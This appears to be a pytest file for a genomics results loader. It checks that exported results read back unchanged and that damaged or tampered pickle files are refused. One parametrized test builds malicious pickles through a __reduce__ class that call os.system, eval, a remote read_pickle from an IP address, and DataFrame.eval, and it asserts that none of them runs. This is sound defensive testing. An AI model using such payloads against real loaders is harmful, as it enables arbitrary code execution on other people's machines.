"""Results read back from their folder: just as they were, and nothing else is run."""

from __future__ import annotations

import json
import os
import pickle
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from scripts import diff, targets
from scripts.common.errors import InputError, NotFoundError
from scripts.common.files.manifest import MANIFEST, list_files
from scripts.common.files.stored_results import ANALYSIS_OBJECT, read_stored
from scripts.diff.diff_result import DiffResult
from tests.diff.tables import make_results, peaks


class Evil:
    def __init__(self, call: Any, *values: Any) -> None:
        self.call, self.values = call, values

    def __reduce__(self) -> Any:
        return self.call, self.values


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    diff.export_all(make_results(peaks([{"q": 1e-5}, {"q": 0.9}])), tmp_path, annotation="none")
    return tmp_path


def replace_pickle(folder: Path, content: bytes) -> None:
    """Put another pickle in the place of the exported one, listed as if it were that one."""
    (folder / ANALYSIS_OBJECT).write_bytes(content)
    list_files(folder, [ANALYSIS_OBJECT])


def test_as_they_were(folder: Path) -> None:
    results = make_results(peaks([{"q": 1e-5}, {"q": 0.9}]))
    back = diff.load_results(folder)
    assert back.fingerprint() == DiffResult.of(results).fingerprint()
    pd.testing.assert_frame_equal(back.diff_regions, results["diff_regions"])
    pd.testing.assert_frame_equal(back.counts, results["counts"])
    assert back.parameters == results["parameters"] and back.qc_warnings == results["qc_warnings"]
    diff.export_all(back, folder / "again", annotation="none")
    assert diff.load_results(folder / "again").fingerprint() == back.fingerprint()


def test_every_kind_of_column_comes_back(folder: Path) -> None:
    frame = pd.DataFrame(
        {
            "text": ["a", None],
            "whole": pd.array([1, None], dtype="Int64"),
            "real": pd.array([1.5, None], dtype="Float64"),
            "flag": pd.array([True, None], dtype="boolean"),
            "kind": pd.Categorical(["u", "v"]),
            "string": pd.array(["x", None], dtype="string"),
            "time": pd.to_datetime(["2026-01-01", None]),
        },
        index=pd.MultiIndex.from_tuples([("g", 1), ("h", 2)]),
    )
    replace_pickle(folder, pickle.dumps({"frame": frame, "number": frame["real"].to_numpy()[:1]}, protocol=4))
    pd.testing.assert_frame_equal(read_stored(folder, "differential regions")["frame"], frame)


@pytest.mark.parametrize(
    "evil",
    [
        Evil(os.system, "touch ran"),
        Evil(eval, "open('ran', 'w')"),
        Evil(pd.read_pickle, "http://198.51.100.7/x"),
        Evil(pd.ExcelFile, "ran"),
        Evil(getattr, pd.DataFrame, "eval"),
    ],
    ids=["system", "eval", "read_pickle", "ExcelFile", "getattr"],
)
def test_a_pickle_that_runs_something_is_refused(folder: Path, evil: Evil, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)
    replace_pickle(folder, pickle.dumps({"diff_regions": evil}, protocol=4))
    with pytest.raises(InputError, match="which is no part of a table") as caught:
        diff.load_results(folder)
    assert "Run export_all() again" in str(caught.value) and not (folder / "ran").exists()


def test_another_file_than_the_exported_one(folder: Path) -> None:
    with (folder / ANALYSIS_OBJECT).open("ab") as stream:
        stream.write(b"x")
    with pytest.raises(InputError, match="is not the file that was exported"):
        diff.load_results(folder)
    (folder / ANALYSIS_OBJECT).unlink()
    with pytest.raises(InputError, match="is not the file that was exported"):
        diff.load_results(folder)


@pytest.mark.parametrize("content", [b"", b"\x80\x04", b"no pickle", pickle.dumps([1])], ids=range(4))
def test_damaged(folder: Path, content: bytes) -> None:
    replace_pickle(folder, content)
    with pytest.raises(InputError, match="cannot be read|holds no results"):
        diff.load_results(folder)


def test_the_other_skill_and_no_folder(folder: Path) -> None:
    with pytest.raises(InputError, match="give a folder of target genes"):
        targets.load_results(folder)
    with pytest.raises(NotFoundError):
        diff.load_results(folder / "nothing")
    content = json.loads((folder / MANIFEST).read_text("utf-8"))
    del content["files"][ANALYSIS_OBJECT]
    (folder / MANIFEST).write_text(json.dumps(content), "utf-8")
    with pytest.raises(InputError, match="is not the file that was exported"):
        diff.load_results(folder)
